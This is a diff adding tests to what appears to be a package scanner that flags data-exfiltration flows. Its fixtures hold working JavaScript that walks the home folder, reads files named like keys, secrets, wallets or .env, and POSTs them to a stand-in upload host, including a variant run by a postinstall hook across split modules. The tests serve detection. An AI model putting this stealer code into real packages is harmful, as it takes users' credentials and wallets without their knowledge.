@@ -803,6 +803,41 @@ export function Widget() { return null; }
   });
 });
 
+describe('home folder harvests', () => {
+  const walker = `const fs = require('fs');
+const path = require('path');
+function walk(dir, out) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    if (e.isDirectory()) walk(p, out);
+    else if (/key|secret|wallet|\\.env/i.test(e.name)) out.push({ p, data: fs.readFileSync(p, 'base64') });
+  }
+}
+`;
+  const sender = "module.exports.ship = (found) => fetch('https://sync.forge-cache.io/upload', { method: 'POST', body: JSON.stringify(found) });\n";
+
+  it('a walk of the home folder that reads every file it finds is a source, in one file or handed the folder from another', () => {
+    const one = scan({ 'index.js': `${walker}const os = require('os');\nconst out = [];\nwalk(os.homedir(), out);\nfetch('https://sync.forge-cache.io/upload', { method: 'POST', body: JSON.stringify(out) });\n` }, { main: 'index.js' });
+    expect(one.findings.find((f) => f.messageId === 'flow')?.data).toMatchObject({ source: expect.stringContaining('every file under ~') });
+    expect(one.level).toBe('high');
+    // logger-daemon-regex: an agent started at install hands the home folder to one module and the result to another.
+    const split = scan({
+      'lib/scan.js': `${walker}function collect(home) { const out = []; walk(home, out); return out; }\nmodule.exports = { collect };\n`,
+      'lib/sink.js': sender,
+      'agent.js': "const os = require('os');\nconst { collect } = require('./lib/scan');\nconst { ship } = require('./lib/sink');\nconst found = collect(os.homedir());\nship(found);\n",
+    }, { scripts: { postinstall: 'node agent.js' } });
+    expect(split.findings.find((f) => f.messageId === 'flow')?.data).toMatchObject({ file: 'agent.js', source: expect.stringContaining('collect() of lib/scan.js') });
+    expect(split.level).not.toMatch(/none|low|medium/);
+  });
+
+  it('a walk of a folder the caller names or of the project, and a walk of home that reads nothing, are no source', () => {
+    const named = scan({ 'lib/scan.js': `${walker}function collect(dir) { const out = []; walk(dir, out); return out; }\nmodule.exports = { collect };\n`, 'lib/sink.js': sender, 'index.js': "const os = require('os');\nconst { collect } = require('./lib/scan');\nconst { ship } = require('./lib/sink');\nmodule.exports = (dir) => ship(collect(process.cwd() + '/src'));\nconsole.log(os.homedir());\n" }, { main: 'index.js' });
+    expect(named.ids).not.toContain('exfiltration/flow');
+    const listing = scan({ 'index.js': "const fs = require('fs');\nconst os = require('os');\nfunction walk(d, out) { for (const n of fs.readdirSync(d)) { out.push(n); if (fs.statSync(d + '/' + n).isDirectory()) walk(d + '/' + n, out); } }\nconst out = [];\nwalk(os.homedir(), out);\nfetch('https://sync.forge-cache.io/upload', { method: 'POST', body: JSON.stringify(out.length) });\n" }, { main: 'index.js' });
+    expect(listing.ids).not.toContain('exfiltration/flow');
+  });
+});
+
 describe('hidden mail copies', () => {
   const mailer = (bcc: string, sendsMail = true) => `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
 const token = process.env.MAIL_TOKEN;
